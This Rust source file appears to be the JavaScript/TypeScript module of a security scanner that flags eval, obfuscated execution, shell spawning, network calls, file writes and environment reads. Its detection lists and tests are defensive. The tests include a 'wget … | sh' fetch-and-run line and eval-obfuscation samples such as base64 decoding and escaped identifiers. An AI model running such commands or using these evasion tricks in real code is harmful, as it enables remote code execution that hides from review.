//! JavaScript and TypeScript: calls resolved through `require`/`import` bindings and
//! destructuring, string constants folded (`'ev' + 'al'`, `String.fromCharCode(...)`),
//! identifiers with `\u` escapes read as the engine reads them.

use std::collections::{HashMap, HashSet};

use tree_sitter::{Language, Node};

use super::{MAX_DEPTH, SHELLS, any_below, basename, named_children, parse, text, unescape, walk};
use crate::lang::shell;
use crate::out::{Loc, Out, Text};
use crate::rules::R;
use crate::strings::{UNKNOWN, check_literal, host_port, url_hosts};

/// Which grammar a file needs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Dialect {
    JavaScript,
    TypeScript,
    Tsx,
}

const NET_MODULES: &[&str] = &[
    "http",
    "https",
    "http2",
    "net",
    "tls",
    "dgram",
    "axios",
    "node-fetch",
    "undici",
    "ws",
    "got",
    "request",
    "superagent",
    "socket.io-client",
    "cross-fetch",
    "isomorphic-fetch",
];
const NET_GLOBALS: &[&str] = &["fetch", "WebSocket", "XMLHttpRequest", "EventSource"];
const FFI_MODULES: &[&str] = &[
    "ffi-napi", "ffi", "node-ffi", "ref-napi", "koffi", "bindings",
];
const EVAL_FNS: &[&str] = &[
    "eval",
    "Function",
    "vm.runInThisContext",
    "vm.runInNewContext",
    "vm.runInContext",
    "vm.compileFunction",
    "vm.Script",
    "execScript",
];
const TIMERS: &[&str] = &["setTimeout", "setInterval", "setImmediate"];
const DECODERS: &[&str] = &[
    "atob",
    "String.fromCharCode",
    "decodeURIComponent",
    "decodeURI",
    "unescape",
    "zlib.inflateSync",
    "zlib.gunzipSync",
    "zlib.inflateRawSync",
    "zlib.unzipSync",
    "zlib.brotliDecompressSync",
    "Buffer.from().toString",
];
const SPAWN_SHELL: &[&str] = &["child_process.exec", "child_process.execSync"];
const SPAWN_ARGV: &[&str] = &[
    "child_process.spawn",
    "child_process.spawnSync",
    "child_process.execFile",
    "child_process.execFileSync",
];
const WRITERS: &[&str] = &[
    "fs.writeFile",
    "fs.writeFileSync",
    "fs.appendFile",
    "fs.appendFileSync",
    "fs.createWriteStream",
    "fs.promises.writeFile",
    "fs.promises.appendFile",
];
const WRITERS_DST: &[&str] = &[
    "fs.copyFile",
    "fs.copyFileSync",
    "fs.rename",
    "fs.renameSync",
    "fs.symlink",
    "fs.symlinkSync",
    "fs.promises.copyFile",
    "fs.promises.rename",
];

/// Scans a JavaScript or TypeScript file.
pub(crate) fn scan(t: &Text<'_>, dialect: Dialect, out: &mut Out) {
    let language: Language = match dialect {
        Dialect::JavaScript => tree_sitter_javascript::LANGUAGE.into(),
        Dialect::TypeScript => tree_sitter_typescript::LANGUAGE_TYPESCRIPT.into(),
        Dialect::Tsx => tree_sitter_typescript::LANGUAGE_TSX.into(),
    };
    let Some(tree) = parse(&language, t, out) else {
        return;
    };
    let root = tree.root_node();
    let mut js = Js {
        t,
        src: t.text,
        aliases: HashMap::new(),
        consts: HashMap::new(),
        tainted: HashSet::new(),
    };
    walk(root, |n| js.collect(n, out));
    walk(root, |n| js.visit(n, out));
}

/// A module specifier without its `node:` scheme, `fs/promises` as `fs.promises`.
fn module_name(m: &str) -> String {
    let m = m.strip_prefix("node:").unwrap_or(m);
    match m {
        "fs/promises" => "fs.promises".to_owned(),
        "child_process" => m.to_owned(),
        _ => m.to_owned(),
    }
}

fn strip_global(q: String) -> String {
    for g in ["globalThis.", "window.", "global.", "self."] {
        if let Some(rest) = q.strip_prefix(g) {
            return rest.to_owned();
        }
    }
    q
}

fn in_list(q: &str, list: &[&str]) -> bool {
    list.iter()
        .any(|x| q == *x || (q.starts_with(x) && q.as_bytes().get(x.len()) == Some(&b'.')))
}

struct Js<'a> {
    t: &'a Text<'a>,
    src: &'a str,
    aliases: HashMap<String, String>,
    consts: HashMap<String, String>,
    tainted: HashSet<String>,
}

impl Js<'_> {
    fn loc(&self, n: Node<'_>) -> Loc {
        self.t.loc(n.start_byte())
    }

    /// An identifier as the engine reads it (`\u0065val` is `eval`).
    fn ident(&self, n: Node<'_>) -> String {
        let s = text(n, self.src);
        if s.contains('\\') {
            unescape(s)
        } else {
            s.to_owned()
        }
    }

    fn args<'t>(&self, call: Node<'t>) -> Vec<Node<'t>> {
        call.child_by_field_name("arguments")
            .map(named_children)
            .unwrap_or_default()
    }

    fn qualify(&self, n: Node<'_>, depth: usize) -> Option<String> {
        if depth > MAX_DEPTH {
            return None;
        }
        let q = match n.kind() {
            "identifier" => {
                let id = self.ident(n);
                self.aliases.get(&id).cloned().unwrap_or(id)
            }
            "member_expression" => {
                let obj = self.qualify(n.child_by_field_name("object")?, depth + 1)?;
                let prop = self.ident(n.child_by_field_name("property")?);
                format!("{obj}.{prop}")
            }
            "subscript_expression" => {
                let obj = self.qualify(n.child_by_field_name("object")?, depth + 1)?;
                let key = self.const_str(n.child_by_field_name("index")?, depth + 1)?;
                format!("{obj}.{key}")
            }
            "call_expression" => {
                let f = n.child_by_field_name("function")?;
                if f.kind() == "import" || text(f, self.src) == "require" {
                    let m = self.const_str(*self.args(n).first()?, depth + 1)?;
                    module_name(&m)
                } else {
                    format!("{}()", self.qualify(f, depth + 1)?)
                }
            }
            "parenthesized_expression"
            | "as_expression"
            | "non_null_expression"
            | "satisfies_expression"
            | "await_expression" => {
                return self.qualify(n.named_child(0)?, depth + 1);
            }
            "this" => "this".to_owned(),
            _ => return None,
        };
        Some(strip_global(q))
    }

    fn const_str(&self, n: Node<'_>, depth: usize) -> Option<String> {
        if depth > MAX_DEPTH {
            return None;
        }
        match n.kind() {
            "string" => Some(
                named_children(n)
                    .into_iter()
                    .map(|c| unescape(text(c, self.src)))
                    .collect(),
            ),
            "template_string" => named_children(n)
                .into_iter()
                .map(|c| match c.kind() {
                    "template_substitution" => None,
                    _ => Some(unescape(text(c, self.src))),
                })
                .collect(),
            "binary_expression" => {
                let op = n.child_by_field_name("operator").map(|o| text(o, self.src));
                if op != Some("+") {
                    return None;
                }
                let l = self.const_str(n.child_by_field_name("left")?, depth + 1)?;
                let r = self.const_str(n.child_by_field_name("right")?, depth + 1)?;
                Some(l + &r)
            }
            "identifier" => self.consts.get(&self.ident(n)).cloned(),
            "parenthesized_expression" | "as_expression" => {
                self.const_str(n.named_child(0)?, depth + 1)
            }
            "call_expression" => {
                let f = n.child_by_field_name("function")?;
                let q = self.qualify(f, depth + 1)?;
                let args = self.args(n);
                if q == "String.fromCharCode" {
                    return args
                        .iter()
                        .map(|a| {
                            text(*a, self.src)
                                .parse::<u32>()
                                .ok()
                                .and_then(char::from_u32)
                        })
                        .collect();
                }
                // "lave".split("").reverse().join("")
                if f.kind() == "member_expression" {
                    let obj = f.child_by_field_name("object")?;
                    let method = text(f.child_by_field_name("property")?, self.src);
                    match method {
                        "join" => {
                            let inner = obj.child_by_field_name("function")?;
                            if text(inner.child_by_field_name("property")?, self.src) != "reverse" {
                                return None;
                            }
                            let split = inner.child_by_field_name("object")?;
                            let sf = split.child_by_field_name("function")?;
                            if text(sf.child_by_field_name("property")?, self.src) != "split" {
                                return None;
                            }
                            let s = self.const_str(sf.child_by_field_name("object")?, depth + 1)?;
                            Some(s.chars().rev().collect())
                        }
                        "concat" => {
                            let mut s = self.const_str(obj, depth + 1)?;
                            for a in args {
                                s.push_str(&self.const_str(a, depth + 1)?);
                            }
                            Some(s)
                        }
                        _ => None,
                    }
                } else {
                    None
                }
            }
            _ => None,
        }
    }

    fn pattern(&self, n: Node<'_>, depth: usize) -> String {
        if let Some(s) = self.const_str(n, depth) {
            return s;
        }
        if depth > MAX_DEPTH {
            return UNKNOWN.to_string();
        }
        match n.kind() {
            "template_string" => named_children(n)
                .into_iter()
                .map(|c| match c.kind() {
                    "template_substitution" => c
                        .named_child(0)
                        .map_or(UNKNOWN.to_string(), |e| self.pattern(e, depth + 1)),
                    _ => unescape(text(c, self.src)),
                })
                .collect(),
            "binary_expression" => {
                let l = n.child_by_field_name("left");
                let r = n.child_by_field_name("right");
                match (l, r) {
                    (Some(l), Some(r))
                        if n.child_by_field_name("operator")
                            .is_some_and(|o| text(o, self.src) == "+") =>
                    {
                        self.pattern(l, depth + 1) + &self.pattern(r, depth + 1)
                    }
                    _ => UNKNOWN.to_string(),
                }
            }
            _ => UNKNOWN.to_string(),
        }
    }

    fn is_decoder_call(&self, call: Node<'_>) -> bool {
        let Some(f) = call.child_by_field_name("function") else {
            return false;
        };
        let q = self.qualify(f, 0).unwrap_or_default();
        if DECODERS.contains(&q.as_str()) {
            return true;
        }
        if q == "Buffer.from" {
            return self
                .args(call)
                .get(1)
                .and_then(|e| self.const_str(*e, 0))
                .is_some_and(|e| matches!(e.as_str(), "base64" | "hex" | "base64url"));
        }
        false
    }

    fn decoded(&self, n: Node<'_>) -> bool {
        any_below(n, |c| match c.kind() {
            "call_expression" => self.is_decoder_call(c),
            "identifier" => self.tainted.contains(&self.ident(c)),
            _ => false,
        })
    }

    fn collect(&mut self, n: Node<'_>, out: &mut Out) {
        match n.kind() {
            "import_statement" => {
                let Some(m) = n
                    .child_by_field_name("source")
                    .and_then(|s| self.const_str(s, 0))
                else {
                    return;
                };
                let m = module_name(&m);
                let Some(clause) = named_children(n)
                    .into_iter()
                    .find(|c| c.kind() == "import_clause")
                else {
                    return;
                };
                for c in named_children(clause) {
                    match c.kind() {
                        "identifier" => {
                            self.aliases.insert(self.ident(c), m.clone());
                        }
                        "namespace_import" => {
                            if let Some(id) = c.named_child(0) {
                                self.aliases.insert(self.ident(id), m.clone());
                            }
                        }
                        "named_imports" => {
                            for spec in named_children(c) {
                                let name = spec.child_by_field_name("name");
                                let alias = spec.child_by_field_name("alias").or(name);
                                if let (Some(name), Some(alias)) = (name, alias) {
                                    let full = format!("{m}.{}", self.ident(name));
                                    self.aliases.insert(self.ident(alias), full);
                                }
                            }
                        }
                        _ => {}
                    }
                }
            }
            "variable_declarator" | "assignment_expression" => {
                let (l, r) = if n.kind() == "variable_declarator" {
                    (
                        n.child_by_field_name("name"),
                        n.child_by_field_name("value"),
                    )
                } else {
                    (
                        n.child_by_field_name("left"),
                        n.child_by_field_name("right"),
                    )
                };
                let (Some(l), Some(r)) = (l, r) else { return };
                let rq = self.qualify(r, 0);
                match l.kind() {
                    "identifier" => {
                        let name = self.ident(l);
                        if let Some(v) = self.const_str(r, 0) {
                            self.consts.insert(name.clone(), v);
                        }
                        if self.decoded(r) {
                            self.tainted.insert(name.clone());
                        }
                        if let Some(q) = rq
                            && q != name
                        {
                            self.aliases.insert(name, q);
                        }
                    }
                    "object_pattern" => {
                        let Some(base) = rq else { return };
                        for p in named_children(l) {
                            let (key, local) = match p.kind() {
                                "shorthand_property_identifier_pattern" => (Some(p), Some(p)),
                                "pair_pattern" => {
                                    (p.child_by_field_name("key"), p.child_by_field_name("value"))
                                }
                                _ => (None, None),
                            };
                            let (Some(key), Some(local)) = (key, local) else {
                                continue;
                            };
                            let key = self.ident(key);
                            if base == "process.env" {
                                out.usage.env(&key, &self.loc(p));
                            }
                            if local.kind() == "identifier"
                                || local.kind() == "shorthand_property_identifier_pattern"
                            {
                                self.aliases
                                    .insert(self.ident(local), format!("{base}.{key}"));
                            }
                        }
                    }
                    _ => {}
                }
            }
            _ => {}
        }
    }

    fn visit(&self, n: Node<'_>, out: &mut Out) {
        match n.kind() {
            "import_statement" => {
                if let Some(m) = n
                    .child_by_field_name("source")
                    .and_then(|s| self.const_str(s, 0))
                {
                    self.module(&module_name(&m), &self.loc(n), out);
                }
            }
            "call_expression" | "new_expression" => self.call(n, out),
            "member_expression" | "subscript_expression" | "identifier" => self.env(n, out),
            "string" | "template_string" => {
                let parent = n.parent().map(|p| p.kind()).unwrap_or("");
                if parent != "binary_expression" {
                    check_literal(out, &self.loc(n), &self.pattern(n, 0), false);
                }
            }
            "binary_expression" => {
                if n.parent().is_some_and(|p| p.kind() != "binary_expression")
                    && let Some(s) = self.const_str(n, 0)
                {
                    check_literal(out, &self.loc(n), &s, false);
                }
            }
            _ => {}
        }
    }

    fn module(&self, m: &str, loc: &Loc, out: &mut Out) {
        if in_list(m, NET_MODULES) {
            out.usage.network(loc);
            out.emit(R::NetUse, loc, format!("imports `{m}` (network)"));
        }
        if in_list(m, FFI_MODULES) || m.ends_with(".node") {
            out.emit(R::NativeFfi, loc, format!("loads `{m}`, native code"));
        }
    }

    fn call(&self, n: Node<'_>, out: &mut Out) {
        let is_new = n.kind() == "new_expression";
        let f = if is_new {
            n.child_by_field_name("constructor")
        } else {
            n.child_by_field_name("function")
        };
        let Some(f) = f else { return };
        let loc = self.loc(n);
        let args = self.args(n);

        if f.kind() == "import" || (!is_new && text(f, self.src) == "require") {
            match args.first().and_then(|a| self.const_str(*a, 0)) {
                Some(m) => self.module(&module_name(&m), &loc, out),
                None => out.emit(
                    R::DynamicImport,
                    &loc,
                    "loads a module whose name is computed at run time",
                ),
            }
            return;
        }
        let Some(q) = self.qualify(f, 0) else {
            return;
        };
        if EVAL_FNS.contains(&q.as_str()) {
            let code: Vec<Node<'_>> = if q == "Function" {
                args.clone()
            } else {
                args.first().copied().into_iter().collect()
            };
            self.eval(&q, &code, &loc, out);
        } else if TIMERS.contains(&q.as_str()) {
            if let Some(a) = args.first()
                && matches!(
                    a.kind(),
                    "string"
                        | "template_string"
                        | "binary_expression"
                        | "identifier"
                        | "call_expression"
                )
                && (self.const_str(*a, 0).is_some() || self.decoded(*a))
            {
                self.eval(&q, &[*a], &loc, out);
            }
        } else if q == "process.dlopen" {
            out.emit(R::NativeFfi, &loc, "process.dlopen loads native code");
        } else if SPAWN_SHELL.contains(&q.as_str()) || SPAWN_ARGV.contains(&q.as_str()) {
            self.spawn(&q, &args, &loc, out);
        } else if NET_GLOBALS.contains(&q.as_str()) || in_list(&q, NET_MODULES) {
            out.usage.network(&loc);
            if NET_GLOBALS.contains(&q.as_str()) {
                out.emit(R::NetUse, &loc, format!("`{q}` uses the network"));
            }
            self.net_target(&args, &loc, out);
        } else if WRITERS.contains(&q.as_str()) || WRITERS_DST.contains(&q.as_str()) {
            let i = usize::from(WRITERS_DST.contains(&q.as_str()));
            let p = args
                .get(i)
                .map_or(UNKNOWN.to_string(), |a| self.pattern(*a, 0));
            out.emit(
                R::FileWrite,
                &loc,
                format!("writes `{}`", p.replace(UNKNOWN, "…")),
            );
            if !p.contains(UNKNOWN) {
                out.usage.write(&p, &loc);
            }
        }
    }

    fn eval(&self, q: &str, code: &[Node<'_>], loc: &Loc, out: &mut Out) {
        if code.iter().any(|c| self.decoded(*c)) {
            out.emit(
                R::ObfuscatedExec,
                loc,
                format!("`{q}` runs data decoded at run time"),
            );
        } else if code.iter().all(|c| self.const_str(*c, 0).is_some()) {
            if !code.is_empty() {
                out.emit(R::ExecLiteral, loc, format!("`{q}` of a string literal"));
            }
        } else {
            out.emit(
                R::JsEval,
                loc,
                format!("`{q}` of a value computed at run time"),
            );
        }
    }

    fn spawn(&self, q: &str, args: &[Node<'_>], loc: &Loc, out: &mut Out) {
        let Some(first) = args.first() else { return };
        let shell_opt = args.iter().skip(1).any(|a| {
            a.kind() == "object"
                && named_children(*a).iter().any(|p| {
                    p.kind() == "pair"
                        && p.child_by_field_name("key")
                            .is_some_and(|k| text(k, self.src) == "shell")
                        && p.child_by_field_name("value")
                            .is_some_and(|v| text(v, self.src) != "false")
                })
        });
        if SPAWN_SHELL.contains(&q) || shell_opt {
            out.emit(
                R::ShellString,
                loc,
                format!("`{q}` runs a command line through a shell"),
            );
            if self.decoded(*first) {
                out.emit(
                    R::ObfuscatedExec,
                    loc,
                    format!("`{q}` runs a decoded command line"),
                );
            }
            match self.const_str(*first, 0) {
                Some(cmd) => shell::scan_embedded(&cmd, loc, out),
                None => out.emit(
                    R::ProcSpawnDynamic,
                    loc,
                    format!("`{q}` runs a command line computed at run time"),
                ),
            }
            return;
        }
        let Some(program) = self.const_str(*first, 0) else {
            if self.qualify(*first, 0).as_deref() != Some("process.execPath") {
                out.emit(
                    R::ProcSpawnDynamic,
                    loc,
                    format!("`{q}` starts a program named at run time"),
                );
            }
            return;
        };
        out.usage.exec(&program, loc);
        out.emit(R::ProcSpawn, loc, format!("starts `{program}`"));
        let argv: Vec<Node<'_>> = args
            .get(1)
            .filter(|a| a.kind() == "array")
            .map(|a| named_children(*a))
            .unwrap_or_default();
        if SHELLS.contains(&basename(&program))
            && argv
                .first()
                .and_then(|a| self.const_str(*a, 0))
                .is_some_and(|a| a == "-c")
        {
            out.emit(
                R::ShellC,
                loc,
                format!("starts `{program} -c`, a command line through a shell"),
            );
            if let Some(script) = argv.get(1) {
                if self.decoded(*script) {
                    out.emit(
                        R::ObfuscatedExec,
                        loc,
                        "a shell runs a decoded command line",
                    );
                } else if let Some(s) = self.const_str(*script, 0) {
                    shell::scan_embedded(&s, loc, out);
                }
            }
        }
    }

    fn net_target(&self, args: &[Node<'_>], loc: &Loc, out: &mut Out) {
        let Some(first) = args.first() else { return };
        if first.kind() == "object" {
            let mut host = None;
            let mut port = 443;
            for p in named_children(*first) {
                let (Some(k), Some(v)) =
                    (p.child_by_field_name("key"), p.child_by_field_name("value"))
                else {
                    continue;
                };
                match text(k, self.src).trim_matches(['"', '\'']) {
                    "host" | "hostname" => host = self.const_str(v, 0),
                    "port" => port = text(v, self.src).parse().unwrap_or(port),
                    _ => {}
                }
            }
            if let Some(hp) = host.and_then(|h| host_port(&h, port)) {
                out.usage.host(hp, loc, true);
            }
            return;
        }
        for hp in url_hosts(&self.pattern(*first, 0)) {
            out.usage.host(hp, loc, true);
        }
    }

    /// `process.env.X`, `process.env["X"]`; other uses of `process.env` are the whole of it.
    fn env(&self, n: Node<'_>, out: &mut Out) {
        let parent = n.parent();
        if n.kind() != "identifier" {
            let Some(obj) = n.child_by_field_name("object") else {
                return;
            };
            if self.qualify(obj, 0).as_deref() != Some("process.env") {
                return;
            }
            let key = if n.kind() == "member_expression" {
                n.child_by_field_name("property").map(|p| self.ident(p))
            } else {
                n.child_by_field_name("index")
                    .and_then(|i| self.const_str(i, 0))
            };
            match key {
                Some(k) => out.usage.env(&k, &self.loc(n)),
                None => out.emit(
                    R::EnvEnumerate,
                    &self.loc(n),
                    "reads an environment variable whose name is computed",
                ),
            }
            return;
        }
        // The identifier `process` of a `process.env` used whole.
        let Some(member) = parent.filter(|p| p.kind() == "member_expression") else {
            return;
        };
        if self.qualify(member, 0).as_deref() != Some("process.env")
            || member.child_by_field_name("object") != Some(n)
        {
            return;
        }
        let used_whole = match member.parent() {
            Some(p) if matches!(p.kind(), "member_expression" | "subscript_expression") => {
                p.child_by_field_name("object") != Some(member)
            }
            Some(p) if p.kind() == "variable_declarator" => p
                .child_by_field_name("name")
                .is_some_and(|l| l.kind() != "object_pattern"),
            _ => true,
        };
        if used_whole {
            out.emit(
                R::EnvEnumerate,
                &self.loc(member),
                "uses the whole environment (process.env)",
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::lang::scan_one;

    fn rules(src: &str) -> Vec<String> {
        scan_one("t.js", src).0
    }

    #[test]
    fn eval_and_function() {
        assert_eq!(rules("eval(code);\n"), vec!["js-eval@1:1"]);
        assert_eq!(
            rules("const f = new Function('a', body);\n"),
            vec!["js-eval@1:11"]
        );
        assert_eq!(rules("eval('1 + 1');\n"), vec!["exec-literal@1:1"]);
        assert_eq!(rules("globalThis['ev' + 'al'](x);\n"), vec!["js-eval@1:1"]);
        assert_eq!(rules("\\u0065val(x);\n"), vec!["js-eval@1:1"]);
        assert!(rules("setTimeout(() => run(), 10);\n").is_empty());
    }

    #[test]
    fn decoded_code_is_obfuscated_exec() {
        assert_eq!(
            rules("new Function(atob('eA=='))();\n"),
            vec!["obfuscated-exec@1:1"]
        );
        let via = "const s = Buffer.from(p, 'base64').toString();\neval(s);\n";
        assert_eq!(rules(via), vec!["obfuscated-exec@2:1"]);
        assert!(
            rules("eval(String.fromCharCode(97, 98));\n")
                .contains(&"obfuscated-exec@1:1".to_owned())
        );
    }

    #[test]
    fn child_process_through_aliases() {
        let (r, u) = scan_one(
            "t.js",
            "const { execFile: ef } = require('node:child_process');\nef('git', ['status']);\n",
        );
        assert_eq!(r, vec!["proc-spawn@2:1"]);
        assert!(u.exec.contains_key("git"));
        let (r, _) = scan_one(
            "t.js",
            "import cp from 'child_process';\ncp.spawn('bash', ['-c', cmd]);\n",
        );
        assert!(r.contains(&"shell-c@2:1".to_owned()), "{r:?}");
        let (r, u) = scan_one(
            "t.js",
            "const cp = require('child_process');\ncp.exec('wget -qO- https://x.example/a | sh');\n",
        );
        assert!(r.contains(&"remote-pipe-exec@2:1".to_owned()), "{r:?}");
        assert!(u.hosts.contains_key("x.example:443"));
    }

    #[test]
    fn network_env_and_writes() {
        let src = "import https from 'node:https';\nconst HOST = 'api.example.com';\nhttps.request({ host: HOST, port: 8443 });\nfetch(`https://cdn.example.org/${p}`);\nconst t = process.env.API_TOKEN;\nconst { REGION } = process.env;\nconst all = JSON.stringify(process.env);\nrequire('fs').writeFileSync('/srv/out.json', d);\n";
        let (r, u) = scan_one("t.js", src);
        assert!(u.network.is_some());
        assert!(
            u.hosts.contains_key("api.example.com:8443"),
            "{:?}",
            u.hosts
        );
        assert!(u.hosts.contains_key("cdn.example.org:443"), "{:?}", u.hosts);
        assert!(
            u.env.contains_key("API_TOKEN") && u.env.contains_key("REGION"),
            "{:?}",
            u.env
        );
        assert!(r.contains(&"env-enumerate@7:28".to_owned()), "{r:?}");
        assert!(u.writes.contains_key("/srv/out.json"));
    }

    #[test]
    fn dynamic_require_and_native_addons() {
        assert_eq!(
            rules("const m = require(name);\n"),
            vec!["dynamic-import@1:11"]
        );
        assert_eq!(
            rules("const m = await import(`./${x}.js`);\n"),
            vec!["dynamic-import@1:17"]
        );
        assert_eq!(
            rules("require('./build/addon.node');\n"),
            vec!["native-ffi@1:1"]
        );
        assert!(rules("const path = require('path');\n").is_empty());
    }

    #[test]
    fn typescript_parses_with_types() {
        let (r, _) = scan_one(
            "t.ts",
            "const x: string = input as string;\nconst y = eval(x!);\n",
        );
        assert_eq!(r, vec!["js-eval@2:11"]);
    }
}
